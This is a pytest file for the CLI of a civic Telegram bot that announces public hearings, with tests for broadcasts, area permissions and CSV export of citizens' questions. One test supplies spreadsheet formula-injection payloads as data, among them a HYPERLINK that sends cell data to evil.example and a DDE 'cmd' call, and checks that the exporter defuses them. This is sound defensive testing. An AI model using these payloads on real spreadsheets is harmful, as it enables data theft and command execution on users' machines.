"""`qogam hearings ...`, `qogam broadcasts` and `qogam broadcast show` as akimat staff and acceptance
checks call them (the contract in issue 10 and README)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import subprocess
import sys

import pytest

from bot.core.hearings import hearing as hearing_store
from bot.core.knowledge.areas import KZ_TIME
from bot.storage import hearings, roles, subscriptions, users
from bot.storage.db import open_db
from tests.test_cli import env, qogam  # noqa: F401 - the fixture is used by name

NEXT_WEEK = (dt.datetime.now(KZ_TIME) + dt.timedelta(days=7)).replace(tzinfo=None, hour=15, minute=0,
                                                                      second=0, microsecond=0)


def write(tmp_path, text: str, name: str = "hearing.toml"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return str(path)


def hearing_toml(*, area="akt.khromtau", starts_at=None, kk=True, ru=True, agenda="Бюджет жобасын талқылау.",
                 extra="") -> str:
    starts_at = starts_at or NEXT_WEEK.isoformat(timespec="minutes")
    text = (f'area = "{area}"\nstarts_at = "{starts_at}"\nduration_minutes = 90\n'
            f'place = "Хромтау, ул. Абая 12"\n{extra}\n')
    if kk:
        text += f'[kk]\ntitle = "Бюджет жобасы"\nagenda = """{agenda}"""\n'
    if ru:
        text += f'[ru]\ntitle = "Проект бюджета"\nagenda = """{agenda}"""\n'
    return text


@pytest.fixture
def subscribed(env, tmp_path):  # noqa: F811
    db = open_db(tmp_path / "data" / "qogam.db")
    for n, (area, lang) in enumerate((("akt.khromtau", "kk"), ("akt.khromtau", "ru"), ("akt", "en"),
                                      ("ala", "ru"))):
        subscriptions.subscribe(db, f"tg:{500 + n}", "telegram", area)
        users.set_language(db, f"tg:{500 + n}", "telegram", lang, chosen=False)
    subscriptions.mark_stopped(db, "tg:501")
    return db


def test_add_dry_run_previews_and_queues_nothing(env, tmp_path, subscribed):  # noqa: F811
    out = qogam("hearings", "add", write(tmp_path, hearing_toml()), "--dry-run", "--json", env=env)
    assert out.returncode == 0, out.stderr
    result = json.loads(out.stdout)
    # Two reachable subscribers: Khromtau's (one stopped) and Aktobe region's; Almaty's is elsewhere.
    assert result["hearing"] is None and result["broadcast"] is None and result["recipients"] == 2
    assert set(result["preview"]) == {"kk", "ru"} and "Бюджет жобасы" in result["preview"]["kk"]
    human = qogam("hearings", "add", write(tmp_path, hearing_toml()), "--dry-run", env=env)
    assert "recipients: 2" in human.stdout and "Проект бюджета" in human.stdout
    assert hearing_store.listing(subscribed) == []


def test_add_queues_the_announcement_and_broadcast_show_counts_it(env, tmp_path, subscribed):  # noqa: F811
    out = qogam("hearings", "add", write(tmp_path, hearing_toml()), "--json", env=env)
    assert out.returncode == 0, out.stderr
    result = json.loads(out.stdout)
    assert set(result) == {"hearing", "broadcast", "recipients"} and result["recipients"] == 2
    shown = json.loads(qogam("broadcast", "show", str(result["broadcast"]), "--json", env=env).stdout)
    assert {k: shown[k] for k in ("id", "total", "sent", "pending", "stopped", "failed")} == {
        "id": result["broadcast"], "total": 2, "sent": 0, "pending": 2, "stopped": 0, "failed": 0}
    listed = json.loads(qogam("broadcasts", "--json", env=env).stdout)
    assert [b["kind"] for b in listed] == ["reminder", "reminder", "announcement"]
    audit = json.loads(qogam("audit", "--json", env=env).stdout)
    assert audit[0]["action"] == "broadcast" and audit[0]["detail"]["recipients"] == 2
    missing = qogam("broadcast", "show", "999", env=env)
    assert missing.returncode == 1 and "no broadcast 999" in missing.stderr


@pytest.mark.parametrize("toml, expected", [
    (hearing_toml(starts_at="2020-01-01T10:00"), "The start Jan 1, 2020, 10:00 is in the past"),
    (hearing_toml(area="nowhere"), "Unknown area “nowhere”"),
    (hearing_toml(ru=False), "The hearing has no text in ru"),
    (hearing_toml(agenda="Ұзақ күн тәртібі. " * 300), "Telegram allows 4096"),
    (hearing_toml(starts_at="2026-12-05T15:00+05:00"), "without a UTC offset"),
    (hearing_toml(extra='online_url = "ftp://x"'), "online link must be a web address"),
    ('area = "akt.khromtau"\n[kk\n', "not a valid TOML file"),
])
def test_add_refuses_a_bad_hearing_with_one_clear_line(env, tmp_path, toml, expected):  # noqa: F811
    out = qogam("hearings", "add", write(tmp_path, toml), "--json", env=env)
    assert out.returncode == 1 and out.stdout == ""
    assert expected in out.stderr and "Traceback" not in out.stderr


def test_a_broadcaster_may_announce_only_in_their_area(env, tmp_path, subscribed):  # noqa: F811
    roles.grant(subscribed, "tg:77", "broadcaster", "akt", "cli:test")
    ok = qogam("hearings", "add", write(tmp_path, hearing_toml()), "--as", "tg:77", "--json", env=env)
    assert ok.returncode == 0, ok.stderr
    refused = qogam("hearings", "add", write(tmp_path, hearing_toml(area="ala")), "--as", "tg:77", env=env)
    assert refused.returncode == 1 and "outside" in refused.stderr


def test_change_cancel_results_and_questions(env, tmp_path, subscribed):  # noqa: F811
    added = json.loads(qogam("hearings", "add", write(tmp_path, hearing_toml()), "--json", env=env).stdout)
    hid = str(added["hearing"])
    # Nobody has received it yet (nothing runs the sender here): a correction reaches no one.
    changed = qogam("hearings", "change", hid, "--place", "Хромтау, Дом культуры", "--json", env=env)
    assert changed.returncode == 0, changed.stderr
    assert json.loads(changed.stdout)["recipients"] == 0
    assert hearing_store.get(subscribed, int(hid)).sequence == 1
    hearings.add_question(subscribed, int(hid), "tg:500", "ru", "Когда отремонтируют дорогу в ауле?")
    hearings.add_question(subscribed, int(hid), "tg:502", "ru", "дорогу в ауле когда отремонтируют")
    hearings.add_question(subscribed, int(hid), "tg:503", "ru", "Будет ли новая школа?")
    rows = list(csv.reader(io.StringIO(qogam("hearings", "questions", hid, "--csv", env=env).stdout)))
    assert rows[0] == ["group", "group_size", "question", "lang", "asked_at", "group_questions"]
    assert [(r[0], r[1]) for r in rows[1:]] == [("1", "2"), ("1", "2"), ("2", "1")]
    results = write(tmp_path, 'kk = "Жоба мақұлданды."\nru = "Проект одобрен."\n', "results.toml")
    published = qogam("hearings", "results", hid, results, "--json", env=env)
    assert published.returncode == 0, published.stderr
    assert hearing_store.get(subscribed, int(hid)).status == "held"
    refused = qogam("hearings", "cancel", hid, env=env)
    assert refused.returncode == 1 and "already taken place" in refused.stderr
    listed = json.loads(qogam("hearings", "list", "--json", env=env).stdout)
    assert listed[0]["id"] == int(hid) and listed[0]["questions"] == 3 and listed[0]["status"] == "held"


def test_questions_csv_never_hands_a_spreadsheet_a_formula(env, tmp_path, subscribed):  # noqa: F811
    added = json.loads(qogam("hearings", "add", write(tmp_path, hearing_toml()), "--json", env=env).stdout)
    hid = added["hearing"]
    typed = ['=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', "+1+cmd|' /C calc'!A0", "-2+3",
             "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "Когда отремонтируют дорогу?"]
    for n, text in enumerate(typed):
        hearings.add_question(subscribed, hid, f"tg:{600 + n}", "ru", text)
    # Bytes, not text: text mode would turn the CR inside a quoted cell into a newline.
    out = subprocess.run([sys.executable, "-m", "bot", "hearings", "questions", str(hid), "--csv"], env=env,
                         capture_output=True, timeout=60, check=False)
    assert out.returncode == 0, out.stderr
    cells = [r[2] for r in csv.reader(io.StringIO(out.stdout.decode("utf-8"), newline=""))][1:]
    # The questions are scrubbed when grouped: the carriage return is shown as the newline it meant.
    shown = [t.replace("\r", "\n") for t in typed]
    assert sorted(cells) == sorted(["'" + t for t in shown[:-1]] + [shown[-1]])
    # What a spreadsheet would run: a cell that starts with one of these.
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")]


def test_the_spreadsheet_cell_quotes_only_text_that_starts_a_formula():
    from bot.core.text.spreadsheet import cell, row

    assert cell("=1+1") == "'=1+1" and cell("@x") == "'@x" and cell("-") == "'-" and cell("\t+") == "'\t+"
    assert cell("Дорога = ремонт") == "Дорога = ремонт" and cell("") == "" and cell("'=x") == "'=x"
    assert cell("\n=1+1") == "'\n=1+1" and cell("  @x") == "'  @x" and cell(" a = b") == " a = b"
    assert row([1, -2, 2.5, None, "+7 701 000 00 00"]) == [1, -2, 2.5, None, "'+7 701 000 00 00"]
